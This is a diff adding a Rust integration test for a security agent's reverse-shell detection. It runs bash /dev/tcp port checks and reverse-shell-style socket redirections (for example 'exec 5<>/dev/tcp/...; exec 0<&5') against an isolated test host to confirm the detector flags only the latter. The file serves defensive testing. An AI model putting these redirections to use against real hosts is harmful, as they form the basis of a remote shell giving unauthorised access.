@@ -1,0 +1,162 @@
+//! Ordinary shell habits are not attacks, and the real thing still is: an admin's port check
+//! (`bash -c '</dev/tcp/host/443' && echo open`) and a bash port scan (`echo >
+//! /dev/tcp/host/$port`) put one standard stream on a TCP socket for an instant — no
+//! `reverse_shell` — while a shell that keeps one stream on the socket (`exec 0<&5`, then
+//! waits) or execs a program with it there (`exec cat <&5`) is one. Root, real bash, the real
+//! agent; the peer is the low-risk test host `DE4` in a network namespace of its own, where a
+//! listener accepts and holds every connection. Every assertion is about the processes this
+//! test started (by pid).
+
+mod common;
+
+use std::{
+    collections::HashSet,
+    io::{BufRead, BufReader},
+    os::unix::process::CommandExt,
+    process::{Child, Command, Stdio},
+    thread,
+    time::Duration,
+};
+
+use common::{
+    Agent,
+    netns::{DE4, TestNet},
+    require_root, serial,
+};
+use serde_json::Value;
+
+const PORT: u16 = 4444;
+
+/// Processes the test started, each leading its own process group: SIGKILLed on drop.
+#[derive(Default)]
+struct Procs(Vec<Child>);
+
+impl Procs {
+    fn spawn(&mut self, cmd: &mut Command) -> &mut Child {
+        let child = cmd.process_group(0).spawn().expect("spawn");
+        self.0.push(child);
+        self.0.last_mut().unwrap()
+    }
+}
+
+impl Drop for Procs {
+    fn drop(&mut self) {
+        for c in &mut self.0 {
+            let _ = nix::sys::signal::killpg(
+                nix::unistd::Pid::from_raw(c.id() as i32),
+                nix::sys::signal::Signal::SIGKILL,
+            );
+            let _ = c.wait();
+        }
+    }
+}
+
+/// A listener on the test host that accepts every connection and holds it open.
+fn listener(net: &TestNet, procs: &mut Procs) {
+    let script = "import socket, threading\n\
+        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
+        s.bind(('0.0.0.0', 4444)); s.listen(64); print('ready', flush=True)\n\
+        held = []\n\
+        while True:\n    c, _ = s.accept(); held.append(c)\n";
+    let child = procs.spawn(
+        Command::new("ip")
+            .args(["netns", "exec", net.ns(), "/usr/bin/python3", "-c", script])
+            .stdout(Stdio::piped()),
+    );
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    assert_eq!(line.trim(), "ready", "the listener did not start");
+}
+
+/// Run `script` with bash to the end; it must succeed.
+fn bash_ok(script: &str) -> u32 {
+    let mut child = Command::new("/bin/bash")
+        .args(["-c", script])
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    let pid = child.id();
+    assert!(child.wait().unwrap().success(), "{script}");
+    pid
+}
+
+#[test]
+fn port_checks_are_not_reverse_shells_and_a_shell_held_on_one_stream_is() {
+    if !require_root("port_checks_are_not_reverse_shells_and_a_shell_held_on_one_stream_is") {
+        return;
+    }
+    let _serial = serial();
+    let net = TestNet::new("hb");
+    let mut procs = Procs::default();
+    listener(&net, &mut procs);
+    let agent = Agent::start("");
+
+    // The habits: each ends at once.
+    let check = bash_ok(&format!("</dev/tcp/{DE4}/{PORT} && echo open"));
+    let scan = bash_ok(&format!(
+        "for i in 1 2 3 4 5; do echo > /dev/tcp/{DE4}/{PORT}; done"
+    ));
+    let stderr_check = bash_ok(&format!("echo hi 2>/dev/tcp/{DE4}/{PORT} >&2"));
+
+    // A shell that keeps stdin on the socket and waits: judged after it held it.
+    let held = procs
+        .spawn(Command::new("/bin/bash").args([
+            "-c",
+            &format!("exec 5<>/dev/tcp/{DE4}/{PORT}; exec 0<&5; sleep 60"),
+        ]))
+        .id();
+    // A shell that execs a program with its stdin on the socket (`cat <&5` of the cheat
+    // sheets, as one process).
+    let exec = procs
+        .spawn(Command::new("/bin/bash").args([
+            "-c",
+            &format!("exec 5<>/dev/tcp/{DE4}/{PORT}; exec cat <&5"),
+        ]))
+        .id();
+
+    let held_alert = agent.wait_for("alert", "reverse_shell on the held stdin", |a| {
+        a["anomaly"] == "reverse_shell" && a["pid"] == held
+    });
+    assert_eq!(held_alert["target_ip"], DE4, "{held_alert}");
+    assert!(
+        held_alert["detail"].as_str().unwrap().contains("stdin"),
+        "{held_alert}"
+    );
+    let exec_alert = agent.wait_for("alert", "reverse_shell on the exec'd cat", |a| {
+        a["anomaly"] == "reverse_shell" && a["pid"] == exec
+    });
+    assert!(
+        exec_alert["detail"].as_str().unwrap().contains("exec'd"),
+        "{exec_alert}"
+    );
+
+    // The checks ran before both shells and were judged before them: give the agent one more
+    // hold to be sure. Only this test reaches the test host, whose namespace it made; a check
+    // may connect from a child bash forks for a bare redirect, so the checks are told apart
+    // from the two shells by pid.
+    thread::sleep(Duration::from_secs(3));
+    let shells = [held, exec];
+    let others: Vec<Value> = agent
+        .events("alert")
+        .into_iter()
+        .filter(|a| a["anomaly"] == "reverse_shell" && a["target_ip"] == DE4)
+        .filter(|a| !shells.iter().any(|p| a["pid"] == *p))
+        .collect();
+    assert!(
+        others.is_empty(),
+        "a check (pids {check}, {scan}, {stderr_check} or a child) raised {others:?}"
+    );
+    // And they were seen: the agent had their connects.
+    let checkers: HashSet<u64> = agent
+        .events("connect")
+        .iter()
+        .filter(|c| c["daddr"] == DE4 && !shells.iter().any(|p| c["pid"] == *p))
+        .filter_map(|c| c["pid"].as_u64())
+        .collect();
+    assert!(
+        checkers.len() >= 3,
+        "connects of the checks {check}, {scan}, {stderr_check}: {checkers:?}; they proved nothing"
+    );
+}
